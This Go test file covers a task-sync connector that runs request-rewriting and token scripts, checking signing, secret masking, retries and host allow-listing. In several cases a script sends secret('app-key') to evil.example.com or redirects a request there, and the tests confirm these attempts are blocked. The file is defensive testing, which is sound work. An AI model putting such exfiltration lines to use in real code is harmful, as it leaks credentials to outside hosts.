package connector

import (
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"todosync/retry"
)

func TestSceneScript(t *testing.T) {
	t.Parallel()
	type reply = func(n int, r retry.Request) (retry.Receipt, error)
	all := func(int, retry.Request) (retry.Receipt, error) { return answer(`{"code":0,"message":"ok"}`) }
	tests := map[string]struct {
		script string
		change func(c *Connection)
		reply  reply
		state  string   // of the delivery, with its class
		sent   []string // method, address, headers that begin with X- or are Authorization, body
		kept   []string // likewise, as shown
		text   string   // in the delivery's message
	}{
		"changes the request": {
			script: "def send(r):\n  d = json.decode(r.body)\n  d['who'] = r.fields['F001']\n  r.body = json.encode(d)\n  r.headers['X-Sign'] = hmac('sha256', secret('app-key'), r.body)[:8]\n  r.address += '?a=1'",
			state:  "succeeded",
			sent:   []string{`POST http://oa.example.com/create?a=1 X-App-Key=s3cr3t-value X-Sign=9b2e2f0c {"id":"t","title":"标题 \"x\" of create","to":"oa-u","who":"oa-u"}`},
			kept:   []string{`POST http://oa.example.com/create?a=1 X-App-Key=*** X-Sign=9b2e2f0c {"id":"t","title":"标题 \"x\" of create","to":"oa-u","who":"oa-u"}`},
		},
		"makes the call itself": {
			script: "def send(r):\n  a = http.post('http://files.example.com/up', body = 'file ' + secret('app-key'))\n  b = http.post(r.address, body = r.body, headers = r.headers)\n  return {'code': json.decode(b.body)['code'], 'message': 'made ' + a.body, 'id': 'oa-7'}",
			state:  "succeeded",
			sent:   []string{`POST http://files.example.com/up file s3cr3t-value`, `POST http://oa.example.com/create X-App-Key=s3cr3t-value {"id":"t","to":"oa-u","title":"标题 \"x\" of create"}`},
			kept:   []string{`POST http://files.example.com/up file ***`, `POST http://oa.example.com/create X-App-Key=*** {"id":"t","to":"oa-u","title":"标题 \"x\" of create"}`},
			text:   `made {"code":0,"message":"ok"}`,
		},
		"a refusal of its own": {
			script: "def send(r):\n  return {'code': 7, 'message': 'no'}", state: "failed business", text: "no",
		},
		"already there": {
			script: "def send(r):\n  return {'code': 409}", state: "succeeded",
		},
		"another host": {
			script: "def send(r):\n  http.get('http://evil.example.com/?' + secret('app-key'))", state: "failed mapping",
			text: "scenes.create.script (line 2, column 11): it calls evil.example.com, which allowHosts does not name",
		},
		"sent to another host": {
			script: "def send(r):\n  r.address = 'http://evil.example.com/'", state: "failed mapping",
			text: "scenes.create.script: it calls evil.example.com",
		},
		"an error shows no secret": {
			script: "def send(r):\n  fail('key ' + secret('app-key'))", state: "failed mapping", text: "line 2, column 7): fail: key ***",
		},
		"a host that is away": {
			script: "def send(r):\n  http.get('http://files.example.com/')", state: "retrying network",
			reply: func(int, retry.Request) (retry.Receipt, error) { return refused() },
			sent:  []string{"GET http://files.example.com/ "}, kept: []string{"GET http://files.example.com/ "}, text: "connection refused",
		},
		"a status is an answer": {
			script: "def send(r):\n  a = http.get('http://files.example.com/')\n  return {'code': 0 if a.status == 404 and not a.ok else 1}", state: "succeeded",
			reply: func(int, retry.Request) (retry.Receipt, error) { return status(404) },
			sent:  []string{"GET http://files.example.com/ "}, kept: []string{"GET http://files.example.com/ "},
		},
		"with the connection's credentials": {
			script: "def send(r):\n  a = http.get('http://oa.example.com/x', auth = True)\n  return {'code': a.status - 200, 'message': a.body}", state: "succeeded",
			change: func(c *Connection) {
				c.Token = &TokenSettings{
					Request: RequestSettings{Method: "GET", Address: "http://oa.example.com/token"}, Value: "id", Send: TokenSend{Header: "X-Token"}, RefreshOn: RefreshOn{Status: []int{401}},
				}
				c.Basic = &BasicSettings{User: "u", Password: "${secret:oa-password}"}
			},
			reply: func(n int, r retry.Request) (retry.Receipt, error) {
				switch {
				case strings.HasSuffix(r.Address, "/token"):
					return answer(fmt.Sprintf(`{"id":"tok-12345%d"}`, n))
				case n == 2:
					return status(401)
				}
				return answer("you are " + headerOf(r.Headers, "X-Token"))
			},
			sent: []string{
				"GET http://oa.example.com/token ", "GET http://oa.example.com/x Authorization=Basic dTpwYXNzLXdvcmQtMQ== X-Token=tok-123451 ",
				"GET http://oa.example.com/token ", "GET http://oa.example.com/x Authorization=Basic dTpwYXNzLXdvcmQtMQ== X-Token=tok-123453 ",
			},
			kept: []string{"GET http://oa.example.com/x Authorization=Basic *** X-Token=*** ", "GET http://oa.example.com/x Authorization=Basic *** X-Token=*** "},
			text: "you are ***",
		},
		"its request is signed, and has the credentials": {
			script: "def send(r):\n  r.body = '{\"a\":1}'\n  r.headers = {'X-A': '1', 'Content-Type': 'application/json'}", state: "succeeded",
			change: func(c *Connection) {
				c.Basic = &BasicSettings{User: "u", Password: "${secret:oa-password}"}
				c.Sign = &SignSettings{Over: SignSortedFields, Join: "&", Hash: HashMD5, Into: SignPlace{Field: "sign"}}
			},
			sent: []string{`POST http://oa.example.com/create X-A=1 Authorization=Basic dTpwYXNzLXdvcmQtMQ== {"a":1,"sign":"` + md5Of("a=1") + `"}`},
			kept: []string{`POST http://oa.example.com/create X-A=1 Authorization=Basic *** {"a":1,"sign":"***"}`},
		},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			synctest.Test(t, func(t *testing.T) {
				c := restConnection(func(c *Connection) {
					c.AllowHosts = []string{"files.example.com", "oa.example.com"}
					c.Scenes[SceneCreate].Script = tt.script
					if tt.change != nil {
						tt.change(c)
					}
				})
				r := tt.reply
				if r == nil {
					r = all
				}
				b, got := sentBy(t, c, r)
				d := b.deliveries[0]
				if state := strings.TrimSpace(string(d.State) + " " + string(d.Class)); state != tt.state || !strings.Contains(d.Message, tt.text) {
					t.Errorf("%s: %s", state, d.Message)
				}
				var sent, kept []string
				for _, q := range got {
					sent = append(sent, lineOf(q.Method, q.Address, q.Headers, string(q.Body)))
				}
				for _, a := range b.attempts[d.ID] {
					shown := a.Request.masked()
					kept = append(kept, lineOf(shown.Method, shown.Address, shown.Headers, shown.Body))
					if strings.Contains(fmt.Sprint(a), "s3cr3t") || strings.Contains(fmt.Sprint(a), "tok-12345") {
						t.Errorf("kept: %+v", a)
					}
				}
				for i := range sent { // of an HMAC the length is enough
					sent[i] = hexRuns(sent[i])
				}
				for i := range tt.sent {
					tt.sent[i] = hexRuns(tt.sent[i])
				}
				if fmt.Sprint(sent) != fmt.Sprint(tt.sent) {
					t.Errorf("sent\n%s\nwant\n%s", strings.Join(sent, "\n"), strings.Join(tt.sent, "\n"))
				}
				for i := range kept {
					kept[i] = hexRuns(kept[i])
				}
				for i := range tt.kept {
					tt.kept[i] = hexRuns(tt.kept[i])
				}
				if fmt.Sprint(kept) != fmt.Sprint(tt.kept) {
					t.Errorf("kept\n%s\nwant\n%s", strings.Join(kept, "\n"), strings.Join(tt.kept, "\n"))
				}
			})
		})
	}
}

// hexRuns hides the digits of X-Sign.
func hexRuns(s string) string {
	before, after, found := strings.Cut(s, "X-Sign=")
	if !found || len(after) < 8 {
		return s
	}
	return before + "X-Sign=........" + after[8:]
}

func lineOf(method, address string, headers []retry.Header, body string) string {
	line := method + " " + address
	for _, h := range headers {
		if strings.HasPrefix(h.Name, "X-") || h.Name == "Authorization" {
			line += " " + h.Name + "=" + h.Value
		}
	}
	return line + " " + body
}

// TestScriptSentBefore: what a script has made of secrets cannot be sent again as it was; what holds none can, without the script.
func TestScriptSentBefore(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		script string
		state  State
		calls  int
	}{
		"with a secret":  {"def send(r):\n  r.body = '{\"k\":\"' + secret('app-key') + '\"}'", Failed, 0},
		"without secret": {"def send(r):\n  r.headers = {}\n  r.body = '{\"k\":\"v\"}'", Succeeded, 1},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			synctest.Test(t, func(t *testing.T) {
				c := restConnection(func(c *Connection) { c.Scenes[SceneCreate].Script = tt.script })
				b, _ := sentBy(t, c, nil)
				kept := b.attempts["t-create-1"][0].Request
				c.Scenes[SceneCreate].Script = "def send(r):\n  fail('not again')"
				b, got := again(t, c, &SentBefore{Scene: SceneCreate, Request: kept})
				if b.deliveries[0].State != tt.state || len(got) != tt.calls {
					t.Errorf("%s, sent %+v: %s", b.deliveries[0].State, got, b.deliveries[0].Message)
				}
				if tt.calls > 0 && string(got[0].Body) != `{"k":"v"}` {
					t.Errorf("sent %s", got[0].Body)
				}
			})
		})
	}
}

func TestTokenScript(t *testing.T) {
	t.Parallel()
	const fetching = "def token(r):\n  a = http.post(r.address, form = {'u': 'x', 'p': secret('oa-password')})\n  if a.status != 200:\n    return None\n  d = json.decode(a.body)\n  return {'token': d['t'], 'expiresIn': d['s']}"
	tests := map[string]struct {
		script  string
		reply   func(n int, r retry.Request) (retry.Receipt, error)
		state   string
		refused bool
		bearer  string
	}{
		"fetches":      {script: fetching, state: "succeeded", bearer: "Bearer tok-123456"},
		"is refused":   {script: fetching, reply: func(int, retry.Request) (retry.Receipt, error) { return status(403) }, state: "pending", refused: true},
		"away":         {script: fetching, reply: func(int, retry.Request) (retry.Receipt, error) { return refused() }, state: "retrying token"},
		"fails":        {script: "def token(r):\n  fail(secret('oa-password'))", state: "failed mapping"},
		"another host": {script: "def token(r):\n  return http.get('http://evil.example.com/').body", state: "failed mapping"},
		"a page":       {script: "def token(r):\n  return '<html>'", state: "pending", refused: true},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			synctest.Test(t, func(t *testing.T) {
				c := restConnection(func(c *Connection) {
					c.Token = &TokenSettings{Request: RequestSettings{Address: "http://oa.example.com/token"}, Script: tt.script, Send: TokenSend{Bearer: true}}
				})
				bearer := ""
				b, _ := sentBy(t, c, func(n int, r retry.Request) (retry.Receipt, error) {
					if strings.HasSuffix(r.Address, "/token") {
						if tt.reply != nil {
							return tt.reply(n, r)
						}
						if string(r.Body) != "u=x&p=pass-word-1" {
							t.Errorf("asked for a token with %s", r.Body)
						}
						return answer(`{"t":"tok-123456","s":60}`)
					}
					bearer = headerOf(r.Headers, "Authorization")
					return answer(`{"code":0}`)
				})
				d := b.deliveries[0]
				if state := strings.TrimSpace(string(d.State) + " " + string(d.Class)); state != tt.state || bearer != tt.bearer {
					t.Errorf("%s with %q: %s", state, bearer, d.Message)
				}
				if refused := len(b.conditions) > 0 && !b.conditions[0].TokenRefused.IsZero(); refused != tt.refused {
					t.Errorf("refused: %v", refused)
				}
				if text := fmt.Sprint(b.attempts, b.conditions, d.Message, b.log); strings.Contains(text, "pass-word-1") || strings.Contains(text, "tok-123456") {
					t.Errorf("kept: %s", text)
				}
				if tt.state == "succeeded" && b.token.Life != time.Minute {
					t.Errorf("kept for %s", b.token.Life)
				}
			})
		})
	}
}

// TestScriptNeedsTheAccount: a script that asks for the receiver's account is held for one who has none, as a template is.
func TestScriptNeedsTheAccount(t *testing.T) {
	t.Parallel()
	c := restConnection(func(c *Connection) {
		c.Scenes[SceneCreate].Body = `{"a":1}`
		c.Scenes[SceneDone].Body = `{"a":1}`
		c.Scenes[SceneCreate].Script = "def send(r):\n  r.body += r.fields['F001'] + r.fields['F126']"
	})
	p, err := Compile(1, 1, c, nil, CompileOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if !p.usesAccount(SceneCreate) || p.usesAccount(SceneDone) || !p.scenes[SceneCreate].told {
		t.Error("what the script asks for is not known")
	}
	c.Scenes[SceneCreate].Script = "def send(r):\n  return r.fields['F999']\nx = y"
	if _, err := Compile(1, 1, c, nil, CompileOptions{}); err == nil || !strings.Contains(err.Error(), "line 3, column 5: undefined: y") {
		t.Errorf("got %v", err)
	}
}
